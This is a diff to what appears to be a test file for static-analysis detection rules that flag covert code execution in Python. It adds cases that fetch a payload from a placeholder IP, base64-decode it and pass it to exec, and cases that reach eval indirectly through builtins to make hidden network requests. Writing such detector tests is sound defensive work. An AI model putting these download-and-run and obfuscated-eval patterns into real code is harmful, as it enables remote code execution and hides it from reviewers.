@@ -62,6 +62,9 @@ exec(payload)
 exec("print(1)")
 # ruleid: covert.exec-download
 exec(base64.b64decode(requests.get("https://203.0.113.5/stage4").content))
+blob = requests.get("https://203.0.113.5/stage5").content
+# ruleid: covert.exec-download
+exec(base64.b64decode(blob))
 
 # Code run from a string: the sends inside are reported at the exec, decoded.
 # ruleid: covert.exec-decoded host=203.0.113.5
@@ -83,6 +86,8 @@ vars(__builtins__)["eval"]("requests.get('https://203.0.113.9/v')")
 getattr(builtins, "exec")("requests.get('https://203.0.113.10/g')")
 # ruleid: covert.exec-decoded host=203.0.113.11
 __builtins__.__dict__["exec"]("requests.get('https://203.0.113.11/d')")
+# ruleid: covert.exec-decoded host=203.0.113.16
+vars(__builtins__).get("eval")("requests.get('https://203.0.113.16/g')")
 # ruleid: covert.exec-decoded host=203.0.113.12
 exec(compile("".join(["requests.", "get('https://203.0.113.12/j')"]), "<s>", "exec"))
 # ruleid: covert.exec-decoded host=203.0.113.14
